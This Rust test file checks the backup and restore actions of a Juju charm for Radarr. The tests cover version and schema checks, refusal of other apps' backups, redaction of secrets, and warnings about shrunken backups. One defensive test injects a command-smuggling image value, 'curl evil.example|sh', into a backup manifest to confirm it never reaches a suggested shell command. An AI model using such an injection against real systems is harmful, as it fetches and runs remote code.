//! What the app's data are in its own terms: shown by the actions, remembered for later, and guarded against an app that cannot read
//! them. On a recovery engine that does what it was told, and real databases.

use std::path::Path;

use crate::common::radarr;
use crate::common::recovery::good;
use crate::common::unit::Unit;
use crate::lacking_databases::without_database;
use config_recovery::backups::{BackupContents, BackupSummary};
use jiff::{SignedDuration, Timestamp};
use juju_charm::testing::{Event, RelationState};
use rusqlite::Connection;
use serde_json::{Value, json};
use workload_charm::backup::hooks::HookCommand;
use workload_charm::names::APP_FILE;

pub const DATABASE: &str = "radarr.db";
const VERSION_FILE: &str = "/app/radarr/package_info";

/// A database of Radarr's at this schema, with so many films.
fn database(folder: &Path, schema: u32, films: u32) {
    let path = folder.join(DATABASE);
    let _ = std::fs::remove_file(&path);
    let connection = Connection::open(path).unwrap();
    connection
        .execute_batch(&format!(
            r#"CREATE TABLE "VersionInfo" ("Version" INTEGER NOT NULL);
               INSERT INTO "VersionInfo" VALUES (1), ({schema});
               CREATE TABLE "Movies" ("Id" INTEGER PRIMARY KEY);
               CREATE TABLE "History" ("Date" DATETIME NOT NULL);
               INSERT INTO "History" VALUES ('2026-11-{films:02} 03:04:05Z');
               WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < {films})
               INSERT INTO "Movies" SELECT x FROM n WHERE {films} > 0;"#
        ))
        .unwrap();
}

/// A Radarr 6.1.1 with twelve films that runs and asks for backups.
pub fn settled() -> Unit {
    let unit = Unit::new(&radarr());
    of_version(&unit, "6.1.1.10360-ls299");
    let mut unit = begun(unit);
    database(&unit.volume(), 218, 12);
    std::fs::write(unit.volume().join("config.xml"), config("LogLevel")).unwrap();
    unit.run(Event::UpdateStatus);
    unit.related_to_velero()
}

fn of_version(unit: &Unit, version: &str) {
    let text = format!("UpdateMethod=docker\nPackageVersion={version}\n");
    unit.pebble.change_state(|state| {
        *state = state.clone().with_file(VERSION_FILE, text.as_bytes());
    });
}

fn begun(mut unit: Unit) -> Unit {
    for event in unit.first_events() {
        unit.run(event);
    }
    unit
}

pub fn config(setting: &str) -> String {
    format!(
        "<Config>\n  <ApiKey>0123456789abcdef0123456789abcdef</ApiKey>\n  <{setting}>x</{setting}>\n</Config>\n"
    )
}

/// The engine has a good backup of a Radarr of this version, schema and number of films.
pub fn with_backup(unit: &mut Unit, version: Option<&str>, schema: u32, films: u32) {
    unit.recovery.backups = Some(vec![good("aaaa-1", "radarr")]);
    unit.recovery.made = Some(good("safe-1", "radarr"));
    unit.recovery.about = version
        .map(|version| ("version".to_owned(), version.to_owned()))
        .into_iter()
        .chain([("image".to_owned(), "lscr.io/linuxserver/radarr:6.2.0".to_owned())])
        .collect();
    with_content(unit, schema, films);
}

/// What comes back is a Radarr's of this schema and number of films.
fn with_content(unit: &mut Unit, schema: u32, films: u32) {
    unit.recovery.content = Some(Box::new(move |folder| {
        std::fs::write(folder.join("config.xml"), config("Theme")).unwrap();
        database(folder, schema, films);
    }));
}

pub fn latest() -> Value {
    json!({"backup-uid": "latest"})
}

#[test]
fn what_is_there_and_what_the_backup_holds_are_shown_side_by_side() {
    let mut unit = settled();
    with_backup(&mut unit, Some("6.1.1.10360-ls299"), 218, 9);
    let now = unit.act("show-backup-spec", json!({})).unwrap();
    let here = "films 12, newest history 2026-11-12 03:04:05, schema of radarr.db 218";
    assert_eq!(now["contents-now"], here);
    let verified = unit.act("verify-backup", json!({})).unwrap();
    let there = "films 9, newest history 2026-11-09 03:04:05, schema of radarr.db 218";
    let differences = "films 12 → 9\nnewest history 2026-11-12 03:04:05 → 2026-11-09 03:04:05, 3 d older";
    for results in [
        verified,
        // Seen by the check before.
        unit.act(
            "restore-from-backup",
            json!({"backup-uid": "latest", "dry-run": true}),
        )
        .unwrap(),
        unit.act("restore-from-backup", latest()).unwrap(),
    ] {
        assert_eq!(results["contents"], there, "{results:?}");
        assert_eq!(results["contents-now"], here, "{results:?}");
        assert_eq!(results["differences"], differences, "{results:?}");
        if results.get("result") != Some(&json!("checked")) {
            assert_eq!(results["settings-that-differ"], "LogLevel, Theme");
        }
        // What an older database lacks is left out and said.
        if let Some(notes) = results.get("notes") {
            assert!(
                notes
                    .as_str()
                    .unwrap()
                    .contains("indexers: no such table: Indexers"),
                "{notes}"
            );
        }
    }
    let now = unit.act("show-backup-spec", json!({})).unwrap();
    assert_eq!(now["contents-now"], there, "what was shown is what is there");
    let listed = unit.act("list-backups", json!({})).unwrap();
    assert_eq!(listed["backups"]["aaaa-1"]["contents"], there);
    assert_eq!(listed["backups"]["aaaa-1"]["version"], "6.1.1.10360-ls299");
    assert!(listed["table"].as_str().unwrap().contains(there));
    // Juju has kept it for a new pod.
    unit.loses_its_disk();
    let listed = unit.act("list-backups", json!({})).unwrap();
    assert_eq!(listed["backups"]["aaaa-1"]["contents"], there);
}

#[test]
fn a_backup_of_a_later_app_is_refused_before_anything_is_stopped_and_taken_by_force() {
    for (version, schema, reason) in [
        (
            Some("6.2.0.1"),
            220,
            "it is of Radarr 6.2.0.1 (radarr.db has schema 220, here 218), and this one is Radarr 6.1.1.10360-ls299",
        ),
        // The images have tags.
        (
            None,
            220,
            "it is of Radarr 6.2.0 (radarr.db has schema 220, here 218)",
        ),
        (Some("6.1.1.10360-ls300"), 220, "its radarr.db has schema 220"),
    ] {
        let mut unit = settled();
        with_backup(&mut unit, version, schema, 9);
        let calls = unit.pebble.calls().len();
        let message = unit.act("restore-from-backup", latest()).unwrap_err();
        assert!(message.contains(reason), "{message}");
        assert!(
            message.ends_with(
                "(force=true restores it all the same); juju refresh radarr --resource \
                 radarr-image=lscr.io/linuxserver/radarr:6.2.0 (charm from a file: --path FILE), then restore again"
            ),
            "{message}"
        );
        assert_eq!(unit.pebble_writes(calls), Vec::<String>::new());
        assert!(unit.runs());
        assert!(unit.status().starts_with("active"), "{}", unit.status());
        let verified = unit.act("verify-backup", json!({})).unwrap();
        let notes = verified["notes"].as_str().unwrap();
        assert!(notes.contains("restore-from-backup would refuse it: "), "{notes}");
        let dry = json!({"backup-uid": "latest", "dry-run": true});
        let foreseen = unit.act("restore-from-backup", dry).unwrap();
        let notes = foreseen["notes"].as_str().unwrap();
        assert!(
            notes.starts_with("it will be refused: ") && notes.contains(reason),
            "{notes}"
        );
        let forced = json!({"backup-uid": "latest", "force": true});
        let restored = unit.act("restore-from-backup", forced).unwrap();
        let notes = restored["notes"].as_str().unwrap();
        assert!(
            notes.contains("restored by force: ") && notes.contains(reason),
            "{notes}"
        );
    }
}

#[test]
fn an_earlier_app_is_migrated_and_that_is_said() {
    let mut unit = settled();
    with_backup(&mut unit, Some("6.0.0"), 210, 9);
    let restored = unit.act("restore-from-backup", latest()).unwrap();
    let notes = restored["notes"].as_str().unwrap();
    assert!(
        notes.contains("the backup is of Radarr 6.0.0 (radarr.db has schema 210, here 218)")
            && notes.contains("migrates its databases when it starts"),
        "{notes}"
    );
    // Without a record and without a schema nothing is promised.
    with_backup(&mut unit, None, 210, 9);
    unit.recovery.about.clear();
    unit.recovery.content = Some(Box::new(|folder| {
        std::fs::write(folder.join("config.xml"), config("Theme")).unwrap();
        let database = Connection::open(folder.join(DATABASE)).unwrap();
        database.execute_batch(r#"CREATE TABLE "Other" ("Id");"#).unwrap();
    }));
    let restored = unit.act("restore-from-backup", latest()).unwrap();
    let notes = restored["notes"].as_str().unwrap();
    assert!(
        notes.contains("is not known: the backup says nothing of its app"),
        "{notes}"
    );
}

/// Each has a config.xml of one form, and would start healthy and empty on the other's.
#[test]
fn the_backup_of_another_app_is_refused_by_its_name_and_by_its_databases() {
    let foreign = |unit: &mut Unit, about: &[(&str, &str)]| {
        with_backup(unit, None, 218, 9);
        unit.recovery.backups = Some(vec![good("bbbb-1", "sonarr")]);
        let about = about.iter();
        unit.recovery.about = about
            .map(|(key, value)| ((*key).to_owned(), (*value).to_owned()))
            .collect();
        unit.recovery.content = Some(Box::new(|folder| {
            std::fs::write(folder.join("config.xml"), config("Theme")).unwrap();
            std::fs::write(folder.join("sonarr.db"), "").unwrap();
        }));
    };
    let asked = json!({"backup-uid": "bbbb-1", "from-app": "sonarr"});
    let mut unit = settled();
    foreign(
        &mut unit,
        &[
            ("app", "sonarr"),
            ("version", "4.0.17"),
            ("image", "lscr.io/linuxserver/sonarr:4.0.17"),
        ],
    );
    let message = unit.act("restore-from-backup", asked.clone()).unwrap_err();
    assert!(
        message.contains("it is a backup of sonarr, and this app is Radarr"),
        "{message}"
    );
    assert!(!message.contains("juju refresh"), "{message}");
    foreign(&mut unit, &[]);
    let message = unit.act("restore-from-backup", asked).unwrap_err();
    assert!(
        message.contains("it holds none of the databases of Radarr"),
        "{message}"
    );
    assert!(unit.runs());
}

/// What a person pastes into a shell is never a stranger's.
#[test]
fn a_hostile_manifest_is_shown_as_no_command_and_breaks_no_hook() {
    let mut unit = settled();
    with_backup(&mut unit, Some("6.2.0"), 220, 9);
    for number in 0..900 {
        let (key, value) = (format!("key-{number}"), "x".repeat(400));
        unit.recovery.about.insert(key, value);
    }
    let image = "x; curl evil.example|sh #".to_owned();
    unit.recovery.about.insert("image".to_owned(), image);
    let message = unit.act("restore-from-backup", latest()).unwrap_err();
    assert!(
        message.contains("--resource radarr-image=IMAGE (charm from a file: --path FILE), then"),
        "{message}"
    );
    let verified = unit.act("verify-backup", json!({})).unwrap();
    assert!(!format!("{verified:?}").contains("evil"), "{verified:?}");
    unit.run(Event::UpdateStatus);
    assert!(unit.status().starts_with("active"), "{}", unit.status());
    let kept = format!("{:?}", unit.state.model());
    assert!(!kept.contains("key-1") && kept.contains("6.2.0"), "{kept}");
}

/// Radarr would go on asking with the old key, and nobody would know why nothing comes.
#[test]
fn keys_of_other_apps_that_were_replaced_since_are_named_and_not_shown() {
    let clients = |folder: &Path, key: &str| {
        Connection::open(folder.join(DATABASE))
            .unwrap()
            .execute_batch(&format!(
                r#"CREATE TABLE "DownloadClients" ("Name", "Settings");
                   INSERT INTO "DownloadClients" VALUES ('SABnzbd', '{{"apiKey": "{key}"}}'), ('qBittorrent', '{{"password": "same"}}'),
                     ('House', '{{"apiKey": "{key}"}}');
                   CREATE TABLE "Indexers" ("Name", "Settings");
                   INSERT INTO "Indexers" VALUES ('House', '{{"apiKey": "same"}}');"#
            ))
            .unwrap();
    };
    let mut unit = settled();
    clients(&unit.volume(), "in-use");
    with_backup(&mut unit, Some("6.1.1"), 218, 9);
    unit.recovery.content = Some(Box::new(move |folder| {
        std::fs::write(folder.join("config.xml"), config("Theme")).unwrap();
        database(folder, 218, 9);
        clients(folder, "replaced");
    }));
    for action in ["verify-backup", "restore-from-backup"] {
        let results = unit.act(action, latest()).unwrap();
        let notes = results["notes"].as_str().unwrap();
        assert!(
            notes.contains("other keys or passwords than those in use of House, SABnzbd: "),
            "{action}: {notes}"
        );
        let all = format!("{results:?} {:?}", unit.logs);
        for secret in ["in-use", "replaced\"", "same"] {
            assert!(!all.contains(secret), "{action}: {all}");
        }
    }
    // What is restored is what is in use.
    let again = unit.act("verify-backup", latest()).unwrap();
    assert!(
        !again["notes"].as_str().unwrap().contains("other keys"),
        "{again:?}"
    );
}

/// A backup that began so many days ago.
fn days_ago(uid: &str, days: i64, bytes: u64) -> BackupSummary {
    let mut backup = BackupSummary {
        started: Some(Timestamp::now() - SignedDuration::from_hours(24 * days)),
        ..good(uid, "radarr")
    };
    if let BackupContents::Files(files) = &mut backup.holds {
        files.bytes = bytes;
    }
    backup
}

#[test]
fn a_latest_backup_that_has_collapsed_is_said_and_not_deployed_by_itself() {
    let deployed = |option: &str, backups: Vec<BackupSummary>, films: u32| {
        let mut unit = Unit::new(&radarr());
        of_version(&unit, "6.1.1");
        unit.state = unit
            .state
            .clone()
            .with_config("restore-on-deploy", option)
            .with_relation(RelationState::new(3, "velero-backup-config", "velero-operator"));
        with_backup(&mut unit, Some("6.1.1"), 218, films);
        unit.recovery.backups = Some(backups);
        begun(unit)
    };
    let collapsed = || vec![days_ago("aaaa-2", 1, 4_000_000), days_ago("aaaa-1", 2, 9_000_000)];
    let mut unit = deployed("latest", collapsed(), 9);
    assert!(!unit.runs());
    let status = unit.status();
    assert!(
        status.starts_with("blocked: restore-on-deploy latest: "),
        "{status}"
    );
    assert!(
        status.ends_with("juju config radarr restore-on-deploy=UID"),
        "{status}"
    );
    assert_eq!(unit.recovery.calls.take().last().unwrap(), "plan_restore");
    // The status has no room for both.
    let listed = unit.act("list-backups", json!({})).unwrap();
    let told = listed["restore-on-deploy"].as_str().unwrap();
    assert!(told.contains("aaaa-1") && told.contains("aaaa-2"), "{told}");
    // An empty app, however large its databases are.
    let even = || vec![days_ago("aaaa-2", 1, 9_000_000), days_ago("aaaa-1", 2, 9_000_000)];
    let mut unit = deployed("latest", even(), 0);
    assert!(
        !unit.runs() && unit.status().starts_with("blocked: "),
        "{}",
        unit.status()
    );
    assert_eq!(std::fs::read_dir(unit.volume()).unwrap().count(), 0);
    // It would be the same again: to see that takes a whole restore.
    unit.recovery.calls.take();
    unit.run(Event::UpdateStatus);
    assert_eq!(unit.recovery.calls.take(), Vec::<String>::new());
    assert!(unit.status().starts_with("blocked: "), "{}", unit.status());
    for (option, backups, films) in [
        // Whoever names it means it.
        ("aaaa-2", collapsed(), 9),
        ("aaaa-2", even(), 0),
        ("latest", even(), 9),
        // There is nothing else that could be meant.
        ("latest", vec![days_ago("aaaa-2", 1, 9_000_000)], 0),
    ] {
        let unit = deployed(option, backups, films);
        assert!(unit.runs(), "{option} {films}: {}", unit.status());
    }

    // One without a database, however many bytes it has besides.
    for (option, backups, is_restored) in [
        ("latest", even(), false),
        ("latest", vec![days_ago("aaaa-2", 1, 9_000_000)], true),
        ("aaaa-2", even(), true),
    ] {
        let mut unit = Unit::new(&radarr());
        of_version(&unit, "6.1.1.10360-ls299");
        unit.state = unit
            .state
            .clone()
            .with_config("restore-on-deploy", option)
            .with_relation(RelationState::new(3, "velero-backup-config", "velero-operator"));
        without_database(&mut unit, |_| {});
        unit.recovery.backups = Some(backups);
        let unit = begun(unit);
        assert_eq!(unit.runs(), is_restored, "{option}: {}", unit.status());
        assert_eq!(
            unit.status().starts_with("blocked: "),
            !is_restored,
            "{}",
            unit.status()
        );
    }

    // Who restores by hand is told, and nothing is refused: somebody is there.
    let mut unit = settled();
    with_backup(&mut unit, Some("6.1.1"), 218, 0);
    unit.act("verify-backup", json!({})).unwrap();
    let results = unit.act("restore-from-backup", latest()).unwrap();
    let empty = "holds nothing that counts in Radarr";
    assert!(
        unit.logs.iter().any(|line| line.contains(empty)),
        "{:?}",
        unit.logs
    );
    assert!(results["notes"].as_str().unwrap().contains(empty), "{results:?}");

    let mut unit = settled();
    with_backup(&mut unit, Some("6.1.1"), 218, 9);
    unit.recovery.backups = Some(collapsed());
    for (action, parameters) in [
        ("verify-backup", json!({})),
        (
            "restore-from-backup",
            json!({"backup-uid": "latest", "dry-run": true}),
        ),
        ("restore-from-backup", latest()),
    ] {
        unit.act(action, parameters).unwrap();
        let warns = |line: &String| {
            line.contains("warning: backup radarr-aaaa-2 (4 MB, ")
                && line.contains("uid aaaa-2) holds less than half of radarr-aaaa-1 (9 MB, ")
        };
        assert!(unit.logs.iter().any(warns), "{action}: {:?}", unit.logs);
    }
    unit.act("verify-backup", json!({"backup-uid": "aaaa-2"}))
        .unwrap();
    assert!(
        !unit.logs.iter().any(|line| line.contains("warning")),
        "{:?}",
        unit.logs
    );
}

/// Velero runs it outside of any hook.
#[test]
fn the_command_before_a_backup_records_the_app_and_the_next_dispatch_keeps_what_it_saw() {
    let mut unit = settled();
    unit.cluster.trust();
    unit.cluster.change_pod(|pod| {
        let image = "lscr.io/linuxserver/radarr:6.1.1";
        pod.images.insert("radarr".to_owned(), image.to_owned());
    });
    unit.run(Event::ConfigChanged);
    let charm_dir = unit.volume().with_file_name("charm");
    std::fs::copy(
        crate::common::apps_folder().join("radarr.yaml"),
        charm_dir.join(APP_FILE),
    )
    .unwrap();
    // As Juju's agent leaves it.
    std::fs::write(charm_dir.join(".juju-charm"), "ch:amd64/radarr-12\n").unwrap();
    unit.run(Event::ConfigChanged);
    let command = |verb: &str| {
        let arguments = [verb.into(), unit.volume().into_os_string()];
        let command = HookCommand::parse(arguments).unwrap().unwrap();
        command.run(&charm_dir).unwrap()
    };
    let said = command("before-backup");
    let there = "films 12, newest history 2026-11-12 03:04:05, schema of radarr.db 218";
    assert!(said.contains(&format!("\nbefore-backup: {there}\n")), "{said}");
    assert!(
        said.contains("\nbefore-backup: not told: indexers: no such table: Indexers"),
        "{said}"
    );
    let sets = unit.volume().join(".config-backup/sets");
    let set = std::fs::read_dir(sets).unwrap().next().unwrap().unwrap();
    let manifest = std::fs::read(set.path().join("manifest.json")).unwrap();
    let manifest = config_volume::Manifest::parse(&manifest).unwrap();
    assert_eq!(manifest.about["app"], "radarr");
    assert_eq!(manifest.about["version"], "6.1.1.10360-ls299");
    assert_eq!(manifest.about["image"], "lscr.io/linuxserver/radarr:6.1.1");
    assert_eq!(manifest.about["charm"], "ch:amd64/radarr-12");
    command("after-backup");
    unit.run(Event::UpdateStatus);
    // In the pod that comes next it is known which backup held that.
    unit.loses_its_disk();
    let now = Timestamp::now();
    let minute = SignedDuration::from_mins(1);
    unit.recovery.backups = Some(vec![BackupSummary {
        started: Some(now - minute),
        completed: Some(now + minute),
        ..good("aaaa-1", "radarr")
    }]);
    let listed = unit.act("list-backups", json!({})).unwrap();
    assert_eq!(listed["backups"]["aaaa-1"]["contents"], there, "{listed:?}");
}

/// A list of what was seen goes by time alone, and apps are often backed up in the same moment.
#[test]
fn what_was_seen_of_this_app_is_not_told_of_a_backup_of_another_one() {
    let mut unit = settled();
    with_backup(&mut unit, Some("6.1.1.10360-ls299"), 218, 0);
    unit.act("verify-backup", json!({})).unwrap();
    // The very one that was verified: another one is of another moment on a busy machine.
    let own = unit.recovery.backups.as_ref().unwrap()[0].clone();
    let other = BackupSummary {
        started: own.started,
        completed: own.completed,
        ..good("bbbb-1", "radarr-4k")
    };
    unit.recovery.backups = Some(vec![own, other]);
    let mut asked = json!({"at": "1 minute ago", "from-app": "radarr-4k", "dry-run": true});
    let shown = unit.act("restore-from-backup", asked.clone()).unwrap();
    assert_eq!(shown["backup-uid"], "bbbb-1");
    assert_eq!(shown.get("contents"), None, "{shown:?}");
    let warned = unit.logs.iter().any(|line| line.contains("warning: "));
    assert!(!warned, "{:?}", unit.logs);
    // Nor the other way round.
    with_content(&mut unit, 218, 7);
    asked["dry-run"] = json!(false);
    unit.act("restore-from-backup", asked).unwrap();
    let listed = unit.act("list-backups", json!({})).unwrap();
    let own = listed["backups"]["aaaa-1"]["contents"].as_str().unwrap();
    assert!(own.starts_with("films 0, "), "{own}");
}

#[test]
fn a_dry_run_by_force_says_that_it_would_be_restored() {
    let mut unit = settled();
    with_backup(&mut unit, Some("6.2.0.1"), 220, 9);
    unit.act("verify-backup", json!({})).unwrap();
    let dry = json!({"backup-uid": "latest", "dry-run": true, "force": true});
    let shown = unit.act("restore-from-backup", dry).unwrap();
    let notes = shown["notes"].as_str().unwrap();
    assert!(
        notes.starts_with("it will be restored by force: it is of Radarr 6.2.0.1 "),
        "{notes}"
    );
}

/// Whoever does as the refusal says would otherwise wait for a safety backup each time.
#[test]
fn no_safety_backup_is_made_for_a_backup_that_is_known_to_be_refused() {
    let mut unit = settled();
    with_backup(&mut unit, Some("6.2.0.1"), 220, 9);
    // Nobody has seen it yet: only the restored volume tells.
    let unseen = unit.act("restore-from-backup", latest()).unwrap_err();
    unit.act("verify-backup", json!({})).unwrap();
    unit.recovery.calls.take();
    let seen = unit.act("restore-from-backup", latest()).unwrap_err();
    assert_eq!(seen, unseen);
    assert_eq!(unit.recovery.calls.take(), ["plan_restore"]);
    assert!(unit.runs());
    let forced = json!({"backup-uid": "latest", "force": true});
    let restored = unit.act("restore-from-backup", forced).unwrap();
    assert_eq!(restored["safety-backup"], "safe-1");
}

/// Overseerr and Seerr keep them in their settings.
#[test]
fn keys_of_other_apps_in_a_config_file_are_named_and_not_shown() {
    let file = |key: &str| {
        let radarr =
            json!([{"id": 0, "name": "Radarr", "apiKey": key}, {"id": 1, "name": "4K", "apiKey": "same"}]);
        json!({"main": {"apiKey": "own"}, "radarr": radarr, "sonarr": []}).to_string()
    };
    let mut unit = begun(Unit::new(&crate::common::app("overseerr")));
    std::fs::write(unit.volume().join("settings.json"), file("in-use")).unwrap();
    unit.recovery.backups = Some(vec![good("aaaa-1", "overseerr")]);
    unit.recovery.content = Some(Box::new(move |folder| {
        std::fs::write(folder.join("settings.json"), file("replaced")).unwrap();
    }));
    let results = unit.act("verify-backup", json!({})).unwrap();
    let notes = results["notes"].as_str().unwrap();
    assert!(
        notes.contains("other keys or passwords than those in use of radarr/Radarr/apiKey: "),
        "{notes}"
    );
    assert_eq!(results["settings-that-differ"], "radarr/Radarr/apiKey");
    let all = format!("{results:?} {:?}", unit.logs);
    for secret in ["in-use", "replaced\"", "same"] {
        assert!(!all.contains(secret), "{all}");
    }
}
